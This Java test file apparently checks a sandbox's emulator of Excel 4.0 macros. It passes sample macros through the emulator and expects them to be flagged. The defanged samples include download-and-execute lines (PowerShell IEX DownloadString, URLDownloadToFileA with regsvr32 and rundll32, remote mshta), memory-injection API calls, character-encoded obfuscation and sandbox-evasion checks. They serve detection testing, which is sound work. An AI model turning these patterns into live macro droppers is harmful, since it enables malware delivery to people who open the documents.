package dev.peekaboo.emulation.xlm;

import static org.assertj.core.api.Assertions.assertThat;

import dev.peekaboo.emulation.Emulated;
import dev.peekaboo.emulation.Traces;
import dev.peekaboo.report.Behaviour;
import dev.peekaboo.report.Behaviour.Type;
import dev.peekaboo.report.EmulationReport;
import dev.peekaboo.report.SandboxReport.Completeness;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

import java.time.Duration;
import java.util.List;
import java.util.Optional;
import java.util.stream.Collectors;
import java.util.stream.Stream;

/** Harmless macros in cells, in the styles of mailed workbooks, and what they do. */
class XlmTest {
    private static final String DOWNLOAD =
            "=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://files.example/a.dll\",\"C:\\Users\\Public\\a.dll\",0,0)";

    /**
     * A sample.
     *
     * @param expected findings
     */
    record Sample(String name, Sheets sheets, String... expected) {
        @Override
        public String toString() {
            return name;
        }
    }

    private static EmulationReport run(Sheets sheets) {
        return Emulated.run(sheets.document());
    }

    /** A text as droppers hide it. */
    private static String chars(String text) {
        return text.chars().mapToObj(c -> "CHAR(" + c + ")").collect(Collectors.joining("&"));
    }

    static Stream<Sample> macros_that_start_by_themselves_show_what_they_do() {
        return Stream.of(plain(), hidden(), flow(), machine()).flatMap(all -> all);
    }

    private static Stream<Sample> plain() {
        return Stream.of(
                new Sample(
                        "EXEC",
                        Sheets.lines("=EXEC(\"cmd /c calc\")", "=HALT()"),
                        "script_starts_interpreter",
                        "macro_sheet_hidden"),
                new Sample(
                        "EXEC of PowerShell that fetches",
                        Sheets.lines(
                                "=EXEC(\"powershell -c IEX (New-Object Net.WebClient).DownloadString('http://files.example/a')\")"),
                        "runs_downloaded_code"),
                new Sample(
                        "download and regsvr32",
                        Sheets.lines(
                                DOWNLOAD,
                                "=EXEC(\"regsvr32 -s C:\\Users\\Public\\a.dll\")",
                                "=RETURN()"),
                        "download_and_run",
                        "script_writes_download_to_program"),
                new Sample(
                        "registered under names",
                        Sheets.lines(
                                "=REGISTER(\"URLMON\",\"URLDownloadToFileA\",\"JJCCJJ\",\"Fetch\",,1,9)",
                                "=Fetch(0,\"http://files.example/a\",\"..\\a.dat\",0,0)",
                                "=REGISTER(\"Shell32\",\"ShellExecuteA\",\"JJCCCJJ\",\"Go\",,1,9)",
                                "=Go(0,\"Open\",\"rundll32.exe\",\"..\\a.dat,DllRegisterServer\",0,0)",
                                "=HALT()"),
                        "download_and_run"),
                new Sample(
                        "called by its number",
                        Sheets.lines(
                                "=REGISTER(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\")",
                                "=CALL(A1,0,\"http://files.example/a\",\"C:\\a\\a.ocx\",0,0)",
                                "=CALL(\"C:\\a\\a.ocx\",\"DllRegisterServer\",\"J\")"),
                        "download_and_run"),
                new Sample(
                        "script written line by line",
                        Sheets.lines(
                                "=FOPEN(\"C:\\Users\\Public\\a.vbs\",3)",
                                "=FWRITELN(A1,\"Set x = CreateObject(\"\"WScript.Shell\"\")\")",
                                "=FWRITELN(A1,\"x.Run \"\"powershell -c calc\"\"\")",
                                "=FCLOSE(A1)",
                                "=EXEC(\"explorer.exe C:\\Users\\Public\\a.vbs\")"),
                        "drops_and_runs"),
                new Sample(
                        "code in memory",
                        Sheets.lines(
                                "=CALL(\"Kernel32\",\"VirtualAlloc\",\"JJJJJ\",0,1000,4096,64)",
                                "=CALL(\"Kernel32\",\"WriteProcessMemory\",\"JJJCJJ\",-1,A1,\"abc\",3,0)",
                                "=CALL(\"Kernel32\",\"CreateThread\",\"JJJJJJJ\",0,0,A1,0,0,0)"),
                        "loads_code_into_memory"),
                new Sample(
                        "conversation with a program",
                        Sheets.lines("=INITIATE(\"cmd\",\"/c calc\")"),
                        "script_starts_interpreter"),
                new Sample(
                        "when it is closed",
                        new Sheets()
                                .macros(
                                        "m",
                                        Sheets.column(
                                                "C", 7, "=EXEC(\"mshta http://files.example/a\")"))
                                .name("Auto_Close", "m!$C$7"),
                        "runs_remote_script"),
                new Sample(
                        "a name that only begins like the event",
                        new Sheets()
                                .macros(
                                        "My 'sheet'",
                                        Sheets.column("B", 3, "=EXEC(\"cmd /c calc\")"))
                                .name("auto_openXyz", "'My ''sheet'''!$B$3"),
                        "script_starts_interpreter"));
    }

    private static Stream<Sample> hidden() {
        return Stream.of(
                new Sample(
                        "letters by their numbers",
                        Sheets.lines("=EXEC(" + chars("cmd /c calc") + ")"),
                        "script_starts_interpreter"),
                new Sample(
                        "FORMULA writes the next line",
                        Sheets.lines(
                                "=FORMULA(\"=EX\"&\"EC(\"\"cmd /c calc\"\")\",A3)", "=1+1", ""),
                        "script_starts_interpreter",
                        "code_in_layers"),
                new Sample(
                        "FORMULA in the other style of places",
                        new Sheets()
                                .macros(
                                        "m",
                                        Sheets.scattered(
                                                "A1", "=FORMULA(\"=EXEC(R1C5&RC[5])\",R3C1)",
                                                "A2", "=GOTO(R3C1)",
                                                "E1", "cmd /c",
                                                "F3", " calc"))
                                .starts("m!R1C1"),
                        "script_starts_interpreter"),
                new Sample(
                        "words scattered over sheets",
                        new Sheets()
                                .data(
                                        "Data",
                                        Sheets.scattered("C9", "cmd", "Z100", " /c", "B2", " calc"))
                                .macros(
                                        "m",
                                        Sheets.column("A", 1, "=EXEC(Data!C9&Data!$Z$100&Data!B2)"))
                                .starts("m!$A$1"),
                        "script_starts_interpreter"),
                new Sample(
                        "cells of a worksheet that are worked out",
                        new Sheets()
                                .data(
                                        "Data",
                                        Sheets.scattered("A1", "cm", "A2", "=A1&\"d /c calc\""))
                                .macros("m", Sheets.column("A", 1, "=EXEC(Data!A2)"))
                                .starts("m!$A$1"),
                        "script_starts_interpreter"),
                new Sample(
                        "every second letter, turned round, replaced",
                        Sheets.lines(
                                "=EXEC(SUBSTITUTE(MID(\"xxcmQd /Qc calcxx\",3,13),\"Q\",\"\"))"),
                        "script_starts_interpreter"),
                new Sample(
                        "numbers less a key, letter by letter in a loop",
                        Sheets.lines(
                                        "=SET.NAME(\"text\",\"\")",
                                        "=FOR(\"i\",1,11)",
                                        "=SET.NAME(\"text\",text&CHAR(INDEX($D$1:$D$11,i)-7))",
                                        "=NEXT()",
                                        "=EXEC(text)")
                                .macros("keys", Sheets.scattered("A1", "7"))
                                .columnOf(
                                        "Macro1",
                                        "D",
                                        "cmd /c calc"
                                                .chars()
                                                .mapToObj(c -> "" + (c + 7))
                                                .toArray(String[]::new)),
                        "script_starts_interpreter"),
                new Sample(
                        "a loop over cells until a mark",
                        Sheets.lines(
                                        "=SET.NAME(\"at\",Macro1!$D$1)",
                                        "=SET.NAME(\"text\",\"\")",
                                        "=WHILE(at<>\"END\")",
                                        "=SET.NAME(\"text\",text&CHAR(at))",
                                        "=SET.NAME(\"at\",OFFSET(at,1,0))",
                                        "=NEXT()",
                                        "=FORMULA(text,A9)",
                                        "=1",
                                        "")
                                .columnOf(
                                        "Macro1",
                                        "D",
                                        Stream.concat(
                                                        "=EXEC(\"cmd /c calc\")"
                                                                .chars()
                                                                .mapToObj(c -> "" + c),
                                                        Stream.of("END"))
                                                .toArray(String[]::new)),
                        "script_starts_interpreter"),
                new Sample(
                        "INDIRECT and EVALUATE",
                        Sheets.lines("=EVALUATE(INDIRECT(\"D\"&\"1\"))")
                                .columnOf("Macro1", "D", "EXEC(\"cmd /c calc\")"),
                        "script_starts_interpreter"));
    }

    private static Stream<Sample> flow() {
        return Stream.of(
                new Sample(
                        "GOTO and RUN",
                        new Sheets()
                                .macros(
                                        "m",
                                        Sheets.scattered(
                                                "A1", "=GOTO(D5)",
                                                "D5", "=RUN(F1)",
                                                "D6", "=EXEC(last)",
                                                "F1", "=SET.NAME(\"last\",\"cmd /c calc\")",
                                                "F2", "=RETURN()"))
                                .starts("m!$A$1"),
                        "script_starts_interpreter"),
                new Sample(
                        "a macro called like a function",
                        new Sheets()
                                .macros(
                                        "m",
                                        Sheets.scattered(
                                                "A1", "=EXEC(make(\"calc\"))",
                                                "A2", "=RETURN()",
                                                "C1", "=ARGUMENT(\"what\")",
                                                "C2", "=RETURN(\"cmd /c \"&what)"))
                                .starts("m!$A$1")
                                .name("make", "m!$C$1"),
                        "script_starts_interpreter"),
                new Sample(
                        "blocks",
                        Sheets.lines(
                                "=IF(1=2)",
                                "=EXEC(\"notepad\")",
                                "=ELSE.IF(2=2)",
                                "=EXEC(\"cmd /c calc\")",
                                "=ELSE()",
                                "=EXEC(\"notepad\")",
                                "=END.IF()"),
                        "script_starts_interpreter"),
                new Sample(
                        "later",
                        Sheets.lines(
                                "=ON.TIME(NOW()+\"00:00:02\",\"R5C1\")",
                                "=RETURN()",
                                "",
                                "",
                                "=EXEC(\"cmd /c calc\")"),
                        "script_starts_interpreter"),
                new Sample(
                        "errors that are caught",
                        Sheets.lines("=IFERROR(1/0,EXEC(\"cmd /c calc\"))"),
                        "script_starts_interpreter"));
    }

    private static Stream<Sample> machine() {
        return Stream.of(
                new Sample(
                        "only with a mouse, sound and a large screen",
                        Sheets.lines(
                                "=IF(GET.WORKSPACE(13)<770,CLOSE(FALSE),)",
                                "=IF(GET.WORKSPACE(19),,CLOSE(TRUE))",
                                "=IF(GET.WORKSPACE(42),,CLOSE(TRUE))",
                                "=IF(ISNUMBER(SEARCH(\"Windows\",GET.WORKSPACE(1))),,CLOSE(TRUE))",
                                "=EXEC(\"cmd /c calc\")"),
                        "script_starts_interpreter",
                        "checks_environment"),
                new Sample(
                        "only on a machine we are not",
                        Sheets.lines(
                                "=IF(GET.WORKSPACE(26)=\"Somebody\",GOTO(A3),CLOSE(FALSE))",
                                "=HALT()",
                                "=EXEC(\"cmd /c calc\")"),
                        "script_starts_interpreter"),
                new Sample(
                        "the answer is kept in a cell first",
                        Sheets.lines(
                                "=GET.WORKSPACE(26)",
                                "=IF(A1=\"Somebody\",GOTO(A4))",
                                "=CLOSE(FALSE)",
                                "=EXEC(\"cmd /c calc\")"),
                        "script_starts_interpreter"),
                new Sample(
                        "a key of the day of the month",
                        Sheets.lines(
                                "=DAY(NOW())",
                                "=FORMULA(" + shifted("=EXEC(\"cmd /c calc\")", 23) + ",A4)",
                                "=1",
                                ""),
                        "script_starts_interpreter"),
                new Sample(
                        "settings are exported and read",
                        Sheets.lines(
                                "=EXEC(\"reg export HKCU\\Software\\Microsoft\\Office\\16.0\\Excel\\Security C:\\Users\\Public\\1.reg /y\")",
                                "=WAIT(NOW()+\"00:00:03\")",
                                "=FOPEN(\"C:\\Users\\Public\\1.reg\")",
                                "=FPOS(A3,215)",
                                "=FREAD(A3,255)",
                                "=FCLOSE(A3)",
                                "=IF(ISNUMBER(SEARCH(\"0001\",A5)),CLOSE(FALSE),)",
                                DOWNLOAD),
                        "script_starts_interpreter"));
    }

    /** Letters that are only right on one day. */
    private static String shifted(String text, int day) {
        return text.chars()
                .mapToObj(c -> "CHAR(" + (c + day) + "-A1)")
                .collect(Collectors.joining("&"));
    }

    @ParameterizedTest
    @MethodSource
    void macros_that_start_by_themselves_show_what_they_do(Sample sample) {
        EmulationReport report = run(sample.sheets());

        assertThat(Emulated.ids(report)).as(Emulated.told(report)).contains(sample.expected());
        assertThat(Traces.isBad(report.findings())).as(Emulated.told(report)).isTrue();
    }

    @Test
    void the_command_that_is_put_together_is_told() {
        EmulationReport report =
                run(Sheets.lines("=EXEC(" + chars("cmd /c echo hello") + ")", "=HALT()"));

        Optional<Behaviour> started =
                report.behaviours().stream()
                        .filter(behaviour -> behaviour.type() == Type.PROCESS_START)
                        .findFirst();
        assertThat(started).isPresent();
        assertThat(started.orElseThrow().detail("command")).isEqualTo("cmd /c echo hello");
        assertThat(started.orElseThrow().detail("by")).isEqualTo("xlm");
    }

    static Stream<Sheets> honest_macros_are_not_bad_and_wholly_seen() {
        return Stream.of(
                Sheets.lines(
                        "=ECHO(FALSE)",
                        "=SELECT(\"R1C1\")",
                        "=FORMULA(\"Total\")",
                        "=FORMULA(\"=SUM(R1C3:R9C3)\",B10)",
                        "=COLUMN.WIDTH(12)",
                        "=FORMAT.FONT(\"Arial\",10)",
                        "=ALERT(\"Done\",2)",
                        "=RETURN()"),
                new Sheets()
                        .macros(
                                "Functions",
                                Sheets.scattered(
                                        "A1", "=RESULT(1)",
                                        "A2", "=ARGUMENT(\"net\",1)",
                                        "A3", "=RETURN(net*1.19)"))
                        .name("Gross", "Functions!$A$1"),
                Sheets.lines(
                        "=FOR(\"i\",1,20)",
                        "=IF(INDEX(Data!A1:A20,i)>10)",
                        "=SET.VALUE(OFFSET(B1,i,0),\"large\")",
                        "=END.IF()",
                        "=NEXT()",
                        "=WORKBOOK.ACTIVATE(\"Data\")",
                        "=RETURN()"));
    }

    @ParameterizedTest
    @MethodSource
    void honest_macros_are_not_bad_and_wholly_seen(Sheets sheets) {
        EmulationReport report = run(sheets);

        assertThat(Traces.isBad(report.findings())).as(Emulated.told(report)).isFalse();
        assertThat(report.completeness())
                .as(Emulated.told(report))
                .isEqualTo(Completeness.COMPLETE);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=SOMETHING.UNKNOWN(1)",
                "=CALL(\"C:\\x.dll\",\"Go\",\"J\")",
                "=EXEC(1/0)",
                "=SEND.KEYS(\"^r\")",
                "=EXEC(\"calc",
                "=RUN(\"Module1.Go\")",
                "=GET.CELL(38,A1)",
                "=CALL(\"kernel32\",\"SomethingNew\",\"J\")",
                "=somebody.xla!Go()"
            })
    void what_is_not_known_leaves_a_gap(String formula) {
        EmulationReport report = run(Sheets.lines(formula, "=HALT()"));

        assertThat(report.completeness())
                .as(Emulated.told(report))
                .isNotEqualTo(Completeness.COMPLETE);
    }

    static Stream<Sheets> bombs_end_within_their_limits() {
        String open = "(".repeat(20_000);
        return Stream.of(
                Sheets.lines("=GOTO(A1)"),
                Sheets.lines("=WHILE(TRUE)", "=SET.NAME(\"x\",\"y\")", "=NEXT()"),
                Sheets.lines("=RUN(A1)"),
                Sheets.lines("=A1()"),
                Sheets.lines(
                        "=SET.NAME(\"x\",REPT(\"y\",32767))", "=SET.NAME(\"x\",x&x)", "=GOTO(A2)"),
                Sheets.lines("=FOR(\"i\",1,1E+300)", "=FORMULA(\"=1\",OFFSET(C1,i,0))", "=NEXT()"),
                Sheets.lines("=FOR(\"i\",1,10,0)", "=NEXT()"),
                Sheets.lines("=SUM(A:XFD)", "=GOTO(A1)"),
                Sheets.lines("=" + open + "1" + open.replace('(', ')')),
                Sheets.lines("=A2", "=A1", "=EVALUATE(A2)").name("x", "x").starts("x"),
                Sheets.lines("=FORMULA.FILL(\"=RUN(A1)\",A1:XFD1048576)", "=GOTO(A1)"),
                Sheets.lines("=DAY(NOW())", "=GOTO(A1)"),
                Sheets.lines("=FOPEN(\"a\",3)", "=FWRITE(A1,REPT(\"x\",30000))", "=GOTO(A2)"));
    }

    @ParameterizedTest
    @MethodSource
    void bombs_end_within_their_limits(Sheets sheets) {
        long start = System.nanoTime();

        EmulationReport report = run(sheets);

        Duration taken = Duration.ofNanos(System.nanoTime() - start);
        assertThat(taken).as(Emulated.told(report)).isLessThan(Duration.ofSeconds(10));
        assertThat(Traces.isBad(report.findings())).isFalse();
        assertThat(List.of(Completeness.values())).contains(report.completeness());
    }
}
